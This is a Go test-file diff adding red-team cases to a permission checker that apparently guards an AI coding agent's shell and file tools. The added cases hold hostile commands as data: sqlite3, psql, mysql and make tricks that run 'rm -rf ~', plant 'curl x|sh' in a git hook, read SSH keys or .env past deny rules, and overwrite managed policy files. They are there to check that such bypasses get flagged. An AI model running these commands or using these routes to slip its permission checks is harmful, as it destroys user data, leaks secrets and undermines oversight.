@@ -1037,6 +1037,35 @@ func TestRedTeamDecisions(t *testing.T) {
 		{"S8 neighbour: find / -type l -delete", Y, nil, `find / -type l -delete`, Allow},
 		{"S8 neighbour: find -- src -name", D, nil, `find -- src -name '*.go'`, Allow},
 		{"S8 neighbour: extglob as a pattern", D, nil, `[[ $x == @(a|b) ]] && case $y in @(c|d)) echo y;; esac`, Allow},
+		// S9: sqlite3's file dot-commands name files the path checks
+		// now see; psql and mysql commands beyond SQL; a makefile on
+		// standard input; the administrators' policy files.
+		{"S9 sqlite3 .once into .git/hooks", Y, nil, `sqlite3 :memory: '.once .git/hooks/pre-commit' "select 'curl x|sh'"`, Ask},
+		{"S9 sqlite3 .output ~/.bashrc", D, nil, `sqlite3 :memory: '.output /home/u/.bashrc' 'select 1'`, Ask},
+		{"S9 sqlite3 .import a key", Y, nil, `sqlite3 :memory: '.import /home/u/.ssh/id_rsa t'`, Ask},
+		{"S9 sqlite3 .import past a Read deny", Y, []string{"deny:Read(./.env)"}, `sqlite3 :memory: '.import .env t'`, Deny},
+		{"S9 sqlite3 .out abbreviated past an Edit deny", Y, []string{"deny:Edit(/infra/**)"}, `sqlite3 db '.out infra/main.tf' 'select 1'`, Deny},
+		{"S9 sqlite3 .read", D, []string{"deny:Read(./.env)"}, `sqlite3 :memory: '.read .env'`, Ask},
+		{"S9 sqlite3 .restore of a key", Y, nil, `sqlite3 db '.restore /home/u/.ssh/id_rsa'`, Ask},
+		{"S9 sqlite3 .save outside the root", D, nil, `sqlite3 db '.save /home/u/.bashrc'`, Ask},
+		{"S9 sqlite3 .once -x", D, nil, `sqlite3 db '.once -x' 'select 1'`, Ask},
+		{"S9 sqlite3 ambiguous .o", D, nil, `sqlite3 db '.o /home/u/.profile'`, Ask},
+		{"S9 psql backquote", Y, nil, "psql -c '\\set x `rm -rf ~`'", Ask},
+		{"S9 psql backquote past a deny", D, []string{"deny:Bash(git push:*)"}, "psql -c '\\echo `git push --force`'", Ask},
+		{"S9 psql \\gx |", Y, nil, `psql -c 'select 1 \gx |rm -rf ~'`, Ask},
+		{"S9 psql \\o", D, nil, `psql -c '\o /home/u/.bashrc'`, Ask},
+		{"S9 psql \\i", D, nil, `psql -c '\i .env'`, Ask},
+		{"S9 psql \\copy from a file", D, nil, `psql -c '\copy t from /home/u/.ssh/id_rsa'`, Ask},
+		{"S9 mysql pager", Y, nil, `mysql -e 'pager rm -rf ~'`, Ask},
+		{"S9 mysql tee", D, nil, `mysql -e 'tee /home/u/.bashrc'`, Ask},
+		{"S9 make -f - here-document", Y, nil, "make -f - <<'E'\nall:\n\trm -rf ~\nE", Ask},
+		{"S9 make -kf- past a deny", D, []string{"deny:Bash(git push:*)"}, "make -kf- <<< $'all:\\n\\tgit push --force'", Ask},
+		{"S9 make --file /dev/stdin", Y, nil, `make --file /dev/stdin < mk`, Ask},
+		{"S9 managed settings", Y, nil, `echo "permissions: {}" > /etc/mewsandbox/managed-settings.yaml`, Ask},
+		{"S9 Claude Code managed settings", Y, nil, `cp x /etc/claude-code/managed-settings.json`, Ask},
+		{"S9 neighbour: sqlite3 dot-commands in the project", D, nil, `sqlite3 app.db '.backup backup.db' '.tables' '.mode csv' && sqlite3 db '.output out.csv' 'select 1' && sqlite3 db '.import data.csv t'`, Allow},
+		{"S9 neighbour: psql and mysql", D, nil, `psql -c 'select 1 \g' -c '\dt' -c '\x' && mysql -e 'select 1\G; show tables'`, Allow},
+		{"S9 neighbour: make -f a file", D, nil, `make -f build.mk -C sub -j4 test`, Allow},
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
@@ -1071,6 +1100,9 @@ func TestRedTeamToolDecisions(t *testing.T) {
 		{"R3 Read /proc/1/cwd credentials", Y, nil, Call{Tool: "Read", Path: "/proc/1/cwd/home/u/.aws/credentials"}, Ask},
 		{"R3 neighbour: Read /proc/self/status", D, nil, Call{Tool: "Read", Path: "/proc/self/status"}, Allow},
 		{"R3 neighbour: Write through /proc/self/cwd", A, nil, Call{Tool: "Write", Path: "/proc/self/cwd/main.go"}, Allow},
+		{"S9 Read with a NUL past a deny", D, []string{"deny:Read(./.env)"}, Call{Tool: "Read", Path: ".env\x00"}, Deny},
+		{"S9 Write managed settings", A, nil, Call{Tool: "Write", Path: "/etc/mewsandbox/managed-settings.yaml"}, Ask},
+		{"S9 neighbour: Read the managed settings", D, nil, Call{Tool: "Read", Path: "/etc/mewsandbox/managed-settings.yaml"}, Allow},
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
